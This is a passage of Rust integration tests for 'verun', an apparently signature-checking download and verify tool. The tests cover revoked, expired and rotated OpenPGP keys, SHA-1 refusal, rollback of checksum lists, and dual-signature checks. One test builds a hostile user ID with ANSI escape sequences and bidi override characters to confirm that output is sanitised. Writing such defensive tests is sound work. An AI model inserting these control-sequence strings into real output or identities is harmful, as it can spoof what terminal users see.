        let k = keys()?;
        let g = &k.gpg;
        let t = t0();
        let dave = g.generate("Dave <dave@verun.test>", "ed25519", "cert", Some(t));
        let dave_sub = g.add_subkey(&dave, "ed25519", "sign", Some(t + 3600));
        let dave_before = g.detach_sign(&dave_sub, HISTORY_DOC, false, Some(t + 2 * 86_400));
        let dave_after = g.detach_sign(&dave_sub, HISTORY_DOC, false, Some(t + 4 * 86_400));
        // gpg's menu: select subkey 1, revoke it, reason 1 (compromised), no text, confirm.
        g.run(
            Some(t + 3 * 86_400),
            &["--command-fd", "0", "--edit-key", &dave],
            b"key 1\nrevkey\ny\n1\n\ny\nsave\n",
        );
        let erin = g.generate("Erin <erin@verun.test>", "ed25519", "sign", Some(t));
        let erin_before = g.detach_sign(&erin, HISTORY_DOC, false, Some(t + 86_400));
        let erin_after = g.detach_sign(&erin, HISTORY_DOC, false, Some(t + 5 * 86_400));
        g.run(Some(t + 7200), &["--quick-set-expire", &erin, "2d"], b"");
        Some((
            History {
                dave,
                erin,
                dave_before,
                dave_after,
                erin_before,
                erin_after,
            },
            k,
        ))
    })
    .as_ref()
}

fn verify_sig(env: &TestEnv, cert: &[u8], sig: &[u8]) -> Output {
    let file = env.write("doc.sh", HISTORY_DOC);
    let key = env.write("cert.gpg", cert);
    let sig = env.write("doc.sh.sig", sig);
    env.verun(["verify", &s(&file), "--key", &s(&key), "--sig", &s(&sig)])
}

#[test]
fn a_signature_by_a_subkey_revoked_as_compromised_is_refused_whenever_it_was_made() {
    let Some((h, k)) = history() else { return };
    let env = TestEnv::new();
    let cert = k.gpg.export(&[&h.dave], false);
    for sig in [&h.dave_before, &h.dave_after] {
        let out = verify_sig(&env, &cert, sig);
        assert_exit(&out, 77);
        assert!(stderr(&out).contains("revoked"), "{}", stderr(&out));
    }
}

#[test]
fn a_signature_made_after_the_key_expired_is_refused_and_one_made_before_verifies() {
    let Some((h, k)) = history() else { return };
    let env = TestEnv::new();
    let cert = k.gpg.export(&[&h.erin], false);
    assert_exit(&verify_sig(&env, &cert, &h.erin_before), 0);
    let out = verify_sig(&env, &cert, &h.erin_after);
    assert_exit(&out, 77);
    assert!(stderr(&out).contains("expire"), "{}", stderr(&out));
}

#[test]
fn a_sha1_signature_is_refused() {
    let Some(k) = keys() else { return };
    let env = TestEnv::new();
    let cert = k.gpg.export(&[&k.alice], false);
    let sig = k.gpg.run(
        None,
        &[
            "--local-user",
            &format!("{}!", k.alice),
            "--digest-algo",
            "SHA1",
            "--detach-sign",
            "--output",
            "-",
        ],
        HISTORY_DOC,
    );
    let out = verify_sig(&env, &cert, &sig);
    assert_exit(&out, 77);
    assert!(stderr(&out).contains("SHA-1"), "{}", stderr(&out));
}

#[test]
fn verify_finds_a_local_files_asc_or_sig_next_to_it() {
    let Some(k) = keys() else { return };
    let env = TestEnv::new();
    let cert = s(&env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let file = s(&env.write("tool.tar.gz", TARBALL));
    env.write(
        "tool.tar.gz.asc",
        k.gpg.detach_sign(&k.alice, TARBALL, true, None),
    );
    assert_exit(&env.verun(["verify", &file, "--key", &cert]), 0);
    std::fs::remove_file(env.path("tool.tar.gz.asc")).unwrap();
    env.write(
        "tool.tar.gz.sig",
        k.gpg.detach_sign(&k.alice, TARBALL, false, None),
    );
    assert_exit(&env.verun(["verify", &file, "--key", &cert]), 0);
    env.write("tool.tar.gz", b"changed");
    assert_exit(&env.verun(["verify", &file, "--key", &cert]), 77);
}

#[test]
fn codecov_shape_a_locked_fetch_names_the_lists_signer_and_audit_reports_drift() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let dest = shop.out("codecov");
    let out = codecov_fetch(
        &shop,
        &dest,
        &["--fingerprint", &k.codecov, "--lock", "verun.lock"],
    );
    assert_exit(&out, 0);
    let lock = String::from_utf8(shop.env.read("verun.lock")).unwrap();
    assert!(
        lock.contains(&format!("checksums_signer = \"openpgp:{}\"", k.codecov)),
        "{lock}"
    );
    let cert = s(&shop
        .env
        .write("pgp_keys.asc", k.gpg.export(&[&k.codecov], true)));
    let out = shop.verun(&["audit", "verun.lock", "--key", &cert]);
    assert_exit(&out, 0);
    // A new uploader with a new, validly signed list: drift.
    codecov_site(
        &shop,
        k,
        b"\x7fELF pretend codecov uploader 2\n",
        &k.codecov,
        &k.codecov,
    );
    let out = shop.verun(&["audit", "verun.lock", "--key", &cert]);
    assert_exit(&out, 77);
    assert!(stdout(&out).starts_with("drifted "), "{}", stdout(&out));
}

#[test]
fn a_checksum_list_signature_older_than_one_already_accepted_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let now = now_timestamp();
    let list = shasums();
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", TARBALL);
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.asc",
        k.gpg.clearsign(&k.alice, list.as_bytes(), Some(now - 3600)),
    );
    let dest = shop.out("node.tar.xz");
    assert_exit(
        &node_fetch(&shop, &cert, "SHASUMS256.txt.asc", &dest, &[]),
        0,
    );
    std::fs::remove_file(&dest).unwrap();
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.asc",
        k.gpg
            .clearsign(&k.alice, list.as_bytes(), Some(now - 86_400)),
    );
    let out = node_fetch(&shop, &cert, "SHASUMS256.txt.asc", &dest, &[]);
    assert_refused(&out, 77, &dest);
}

#[test]
fn key_add_from_a_keyring_keeps_the_pinned_certificate_only() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    let scope = format!("{}/", shop.server.base_url());
    let out = shop.verun(&[
        "key",
        "add",
        "bob",
        "--file",
        &ring,
        "--fingerprint",
        &k.bob,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    let out = shop.verun(&["key", "show", "bob"]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains(&k.bob), "{}", stdout(&out));
    // Alice (in the same keyring file) was not added: her signature is not trusted.
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", TARBALL);
    shop.serve("/dist/v22.0.0/SHASUMS256.txt", shasums());
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.sig",
        k.gpg
            .detach_sign(&k.alice, shasums().as_bytes(), false, None),
    );
    let fetch = |dest: &Path| {
        shop.verun(&[
            "fetch",
            &shop.url("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz"),
            "-o",
            &s(dest),
            "--checksums",
            &shop.url("/dist/v22.0.0/SHASUMS256.txt"),
        ])
    };
    let dest = shop.out("node.tar.xz");
    assert_refused(&fetch(&dest), 77, &dest);
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.sig",
        k.gpg
            .detach_sign(&k.bob_sub, shasums().as_bytes(), false, None),
    );
    assert_exit(&fetch(&dest), 0);
}

#[test]
fn run_takes_a_certificate_by_url_pinned_by_fingerprint() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let (script, marker) = marker_script(&shop.env, "pgp-run");
    let url = shop.serve("/install.sh", &script);
    shop.serve(
        "/install.sh.asc",
        k.gpg.detach_sign(&k.carol, &script, true, None),
    );
    shop.serve("/keys/carol.asc", k.gpg.export(&[&k.carol], true));
    let key_url = shop.url("/keys/carol.asc");
    let out = shop.verun(&["run", &url, "--key", &key_url, "--fingerprint", &k.carol]);
    assert_exit(&out, 0);
    assert_ran(&marker);
    std::fs::remove_file(&marker).unwrap();
    let out = shop.verun(&["run", &url, "--key", &key_url, "--fingerprint", &k.alice]);
    assert_exit(&out, 77);
    assert_not_ran(&marker);
}

#[test]
fn verify_json_of_a_cleartext_file_names_every_signer() {
    let Some(dir) = vectors("verify_json_of_a_cleartext_file") else {
        return;
    };
    let env = TestEnv::new();
    let out = env.verun([
        "verify",
        &s(&dir.join("debian/bookworm-security_InRelease")),
        "--key",
        &s(&dir.join("debian/debian-archive-bookworm-security-automatic.asc")),
        "--key",
        &s(&dir.join("debian/debian-archive-bullseye-security-automatic.asc")),
        "--json",
    ]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    let text = v.to_string();
    for primary in [
        "AC530D520F2F3269F5E98313A48449044AAD5C5D",
        "05AB90340C0C5E797F44A8C8254CF3B5AEC0A8F0",
    ] {
        assert!(text.contains(&format!("openpgp:{primary}")), "{v}");
    }
    // With only one of the two signers' certificates, the other signature is by a key
    // not trusted here: ignored (and reported), the trusted one suffices.
    let out = env.verun([
        "verify",
        &s(&dir.join("debian/bookworm-security_InRelease")),
        "--key",
        &s(&dir.join("debian/debian-archive-bookworm-security-automatic.asc")),
        "--json",
    ]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    assert!(
        v.to_string().contains("ED541312A33F1128"),
        "the ignored signature's issuer is reported: {v}"
    );
}

#[test]
fn a_user_id_with_escape_sequences_and_bidi_controls_is_shown_sanitised() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let uid = "Evil \u{1b}[31mred\u{1b}[0m \u{202e}txt\u{7} <evil@verun.test>";
    let evil = k.gpg.generate(uid, "ed25519", "sign", Some(t0()));
    let cert = s(&shop.env.write("evil.gpg", k.gpg.export(&[&evil], false)));
    let file = s(&shop.env.write("f.txt", b"data\n"));
    shop.env.write(
        "f.txt.sig",
        k.gpg.detach_sign(&evil, b"data\n", false, None),
    );
    let out = shop.verun(&["verify", &file, "--key", &cert]);
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("\\u{1b}[31mred"), "{}", stderr(&out));
    assert_no_raw_controls(&out.stderr, "verify with an evil user ID");
    let scope = format!("{}/", shop.server.base_url());
    let add = shop.verun(&[
        "key",
        "add",
        "evil",
        "--file",
        &cert,
        "--fingerprint",
        &evil,
        "--scope",
        &scope,
    ]);
    assert_exit(&add, 0);
    assert_no_raw_controls(&add.stderr, "key add");
    for args in [&["key", "show", "evil"][..], &["key", "list"][..]] {
        let out = shop.verun(args);
        assert_exit(&out, 0);
        assert_no_raw_controls(&out.stdout, &format!("{args:?} stdout"));
        assert_no_raw_controls(&out.stderr, &format!("{args:?} stderr"));
    }
    // A refusal naming the certificate is sanitised too.
    shop.env.write("f.txt", b"changed\n");
    let out = shop.verun(&["verify", &file, "--key", &cert]);
    assert_exit(&out, 77);
    assert_no_raw_controls(&out.stderr, "refused verify with an evil user ID");
}

// --- the single streaming pass: every hash and document mode ------------------------------

#[test]
fn streamed_payloads_verify_under_every_accepted_hash_and_in_text_mode() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop
        .env
        .write("keys.gpg", k.gpg.export(&[&k.alice, &k.codecov], false)));
    // A script with LF line ends (text mode hashes it with CRLF) and a trailing CR-less end.
    let body = b"#!/bin/sh\necho one\r\necho two\n\nlast line without newline";
    for (i, (signer, extra)) in [
        (&k.alice, &["--digest-algo", "SHA256"][..]),
        (&k.alice, &["--digest-algo", "SHA384"][..]),
        (&k.alice, &["--digest-algo", "SHA512"][..]),
        (&k.codecov, &["--digest-algo", "SHA512"][..]),
        (&k.alice, &["--textmode", "--digest-algo", "SHA256"][..]),
        (&k.codecov, &["--textmode", "--digest-algo", "SHA512"][..]),
    ]
    .into_iter()
    .enumerate()
    {
        let path = format!("/m/{i}/tool.sh");
        let url = shop.serve(&path, body);
        let user = format!("{signer}!");
        let mut args = vec!["--local-user", &user, "--detach-sign", "--output", "-"];
        args.extend_from_slice(extra);
        shop.serve(&format!("{path}.sig"), k.gpg.run(None, &args, body));
        let dest = shop.out(&format!("tool-{i}.sh"));
        let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
        assert_exit(&out, 0);
        assert_eq!(std::fs::read(&dest).unwrap(), body, "{extra:?}");
        // One byte changed under the same signature: refused.
        let mut bad = body.to_vec();
        bad[12] ^= 1;
        shop.serve(&path, &bad);
        let dest = shop.out(&format!("tool-{i}-bad.sh"));
        let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
        assert_refused(&out, 77, &dest);
    }
}

#[test]
fn minisign_and_openpgp_signatures_next_to_one_payload_must_both_verify() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let mini = TestKey::generate();
    let body = b"#!/bin/sh\necho both\n";
    let url = shop.serve("/both/tool.sh", body);
    shop.serve("/both/tool.sh.minisig", mini.sign(body, "tool.sh"));
    shop.serve(
        "/both/tool.sh.asc",
        k.gpg.detach_sign(&k.alice, body, true, None),
    );
    let dest = shop.out("tool.sh");
    let both = |dest: &Path| {
        shop.verun(&[
            "fetch",
            &url,
            "-o",
            &s(dest),
            "--key",
            &mini.public_key_base64(),
            "--key",
            &cert,
        ])
    };
    assert_exit(&both(&dest), 0);
    std::fs::remove_file(&dest).unwrap();
    // The OpenPGP sibling replaced by a signature of other bytes: the whole call fails.
    shop.serve(
        "/both/tool.sh.asc",
        k.gpg.detach_sign(&k.alice, b"other bytes", true, None),
    );
    assert_refused(&both(&dest), 77, &dest);
}

// --- rotation -------------------------------------------------------------------------------

/// `verun key rotate` moves an OpenPGP store entry to a new certificate only with a
/// signature of the new certificate file by the current one (`gpg --detach-sign`); then the
/// old certificate's signatures are refused as rotated out and the new one's count. A
/// rotation signed by another key, or over another file, changes nothing.
#[test]
fn an_openpgp_store_certificate_rotates_to_one_it_signed() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let scope = format!("{}/", shop.server.base_url());
    let old_cert = shop
        .env
        .write("codecov.asc", k.gpg.export(&[&k.codecov], true));
    let out = shop.verun(&[
        "key",
        "add",
        "codecov",
        "--file",
        &s(&old_cert),
        "--fingerprint",
        &k.codecov,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    // The successor: Alice's certificate (an Ed25519 key), as a file signed by Codecov's key.
    let new_cert = k.gpg.export(&[&k.alice], true);
    let new_file = shop.env.write("codecov-2.asc", &new_cert);
    let rotate = |sig: Vec<u8>| {
        let sig_file = shop.env.write("codecov-2.asc.sig", sig);
        shop.verun(&[
            "key",
            "rotate",
            "codecov",
            "--new",
            &s(&new_file),
            "--sig",
            &s(&sig_file),
        ])
    };
    for (what, sig) in [
        (
            "signed by another key",
            k.gpg.detach_sign(&k.attacker, &new_cert, false, None),
        ),
        (
            "over another file",
            k.gpg.detach_sign(&k.codecov, b"other\n", false, None),
        ),
    ] {
        let out = rotate(sig);
        assert_exit(&out, 77);
        assert!(
            stderr(&out).contains("verun: hint: "),
            "{what}: {}",
            stderr(&out)
        );
        let show = stdout(&shop.verun(&["key", "show", "codecov"]));
        assert!(show.contains(&k.codecov), "{what}: {show}");
        assert!(!show.contains("rotated"), "{what}: {show}");
    }
    let out = rotate(k.gpg.detach_sign(&k.codecov, &new_cert, false, None));
    assert_exit(&out, 0);
    let show = stdout(&shop.verun(&["key", "show", "codecov"]));
    assert!(show.contains(&k.alice), "{show}");
    assert!(show.contains(&k.codecov), "history: {show}");

    // A payload signed by the old certificate: refused (rotated out), even with --key.
    let dest = shop.out("tool");
    shop.serve("/tool", UPLOADER);
    shop.serve(
        "/tool.sig",
        k.gpg.detach_sign(&k.codecov, UPLOADER, false, None),
    );
    let url = shop.url("/tool");
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest)]);
    assert_refused(&out, 77, &dest);
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &s(&old_cert)]);
    assert_refused(&out, 77, &dest);
    assert!(stderr(&out).contains("rotated out"), "{}", stderr(&out));
    // Signed by the new one: saved.
    shop.serve(
        "/tool.sig",
        k.gpg.detach_sign(&k.alice, UPLOADER, false, None),
    );
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest)]);
    assert_exit(&out, 0);
    assert_eq!(shop.env.read("tool"), UPLOADER);
}
